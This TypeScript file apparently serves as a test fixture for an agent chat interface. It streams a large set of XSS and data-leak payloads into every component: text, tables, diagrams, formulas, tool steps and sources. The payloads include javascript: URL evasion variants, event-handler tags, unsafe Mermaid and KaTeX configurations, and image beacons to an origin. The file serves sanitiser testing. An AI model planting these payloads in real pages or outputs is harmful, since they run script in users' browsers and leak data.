import type { Handler } from '../../../packages/agent-core/src/handler/handler-context.ts';

/** Sets a mark on the page that shows it: no one ought to see it. */
export const RUNS = 'window.pwned=1';

/** What a name may hold, and text of any kind: it would run, load or reorder if it were taken for more than words. */
export const evilName = (origin: string) =>
  `<img src=${origin}/name.png onerror=${RUNS}> </title><script>${RUNS}</script> \u202Egpj.exe`;

/** Ways to write an address that runs. Source: OWASP, XSS filter evasion. */
const ADDRESSES = [
  ...[`javascript:${RUNS}`, `JaVaScRiPt:${RUNS}`, `java&#10;script:${RUNS}`, `&#x6A;avascript:${RUNS}`],
  ...[`&#0000106avascript:${RUNS}`, `\u0001javascript:${RUNS}`, `java\tscript:${RUNS}`, `javascript&colon;${RUNS}`],
  ...[`javascript://%0a${RUNS}`, `data:text/html,<script>${RUNS}</script>`, `data:text/html;base64,PHNjcmlwdD4=`],
  ...['vbscript:x', 'file:///etc/passwd', 'blob:null/x', 'view-source:javascript:x', '//javascript:x'],
];

const HTML = (origin: string) => [
  `<img src=x onerror="${RUNS}">`,
  `<script>${RUNS}</script><script src="${origin}/script.js"></script>`,
  `<svg onload=${RUNS}><image href="${origin}/svg.png"/></svg>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>" src="${origin}/frame"></iframe>`,
  `<style>@import "${origin}/style.css"; body { background: url(${origin}/ground.png) }</style>`,
  `<link rel=stylesheet href=${origin}/link.css><link rel=prefetch href=${origin}/prefetch><base href=${origin}>`,
  `<form action=${origin}/form><input autofocus onfocus=${RUNS}></form><meta http-equiv=refresh content="0;${origin}">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUNS}>`,
  `<details open ontoggle=${RUNS}><video src=${origin}/film poster=${origin}/poster>`,
];

const PICTURES = (origin: string) => [
  `![leak](${origin}/leak.png?secret) ![leak]( ${origin}/blank.png ) ![leak][ref] ![](<${origin}/angle.png>)`,
  `![svg](data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RUNS}"><image href="${origin}/inline.png"/><script>${RUNS}</script></svg>`)})`,
  `[![nested](${origin}/nested.png)](javascript:${RUNS})`,
  `\n[ref]: ${origin}/ref.png\n`,
];

const DIAGRAMS = (origin: string) => [
  `graph TD; A-->B; click A "javascript:${RUNS}"; click B call alert()`,
  `graph TD; A["<img src=${origin}/label.png onerror=${RUNS}>"]-->B["<script>${RUNS}</script>"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(${origin}/theme.css); * { background: url(${origin}/theme.png) }"}}%%\ngraph TD; A-->B`,
  `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x; } @import url(${origin}/font.css); a {"\n---\ngraph TD; A-->B`,
  `graph TD; A@{ img: "${origin}/shape.png", h: 60, w: 60 }; A-->B`,
  `graph TD; classDef evil fill:url(${origin}/fill.png),background:url(${origin}/class.png); A:::evil-->B`,
  `sequenceDiagram\n  link Alice: Open @ javascript:${RUNS}\n  Alice->>Bob: <img src=${origin}/note.png onerror=${RUNS}>`,
];

const FORMULAS = (origin: string) => [
  `$\\href{javascript:${RUNS}}{x}$ $\\url{${origin}/url}$ $\\includegraphics{${origin}/tex.png}$`,
  `$\\htmlStyle{background:url(${origin}/tex)}{x}$ $\\htmlData{x=1}{x}$ $\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$`,
];

const fenced = (language: string, text: string) => `\n\`\`\`${language}\n${text}\n\`\`\`\n`;

/** Answers with every attack that there is in every component that there is. */
export function createAttackHandler(origin: string): Handler {
  const name = evilName(origin);
  const links = ADDRESSES.map((address, index) => `[link ${index}](${address}) <${address}>`).join('\n\n');
  const cells = `| ${name} | [a](javascript:${RUNS}) |\n|---|---|\n| ![](${origin}/cell.png) | <img src=x onerror=${RUNS}> |\n`;
  const all = [...HTML(origin), links, ...PICTURES(origin), ...FORMULAS(origin), cells];
  return async function* () {
    yield all.join('\n\n');
    yield `\n\n> [!NOTE]\n> ${HTML(origin).join(' ')}\n\nNote[^1].\n\n[^1]: ![](${origin}/foot.png) [x](javascript:${RUNS})\n`;
    yield fenced(`"><img src=x onerror=${RUNS}>`, 'code') + fenced('html', HTML(origin).join('\n'));
    for (const diagram of DIAGRAMS(origin)) yield fenced('mermaid', diagram);
    yield { type: 'thinking', thinking: HTML(origin).join('\n') };
    yield {
      type: 'step',
      step: name,
      tool_name: name,
      args: { [name]: HTML(origin) },
      ok: true,
      result: HTML(origin).join(''),
    };
    yield { type: 'table', headers: [name, 'b'] };
    yield { type: 'table', row: [`![](${origin}/row.png)`, name] };
    yield { type: 'code', code: HTML(origin).join('\n'), language: name };
    yield { type: 'callout', callout: PICTURES(origin).join('\n'), style: 'warning', title: name };
    yield { type: 'image', src: `${origin}/component.png`, alt: name, caption: name };
    yield { type: 'image', src: `javascript:${RUNS}`, alt: 'none' };
    yield {
      type: 'sources',
      id: 's',
      sources: [{ title: name, url: `javascript:${RUNS}`, snippet: HTML(origin).join('') }],
    };
    yield { type: 'ui', action: 'suggest', suggestions: [name] };
    yield { type: 'ui', action: 'open_canvas', src: `javascript:${RUNS}` };
    yield 'The attack is over.';
  };
}
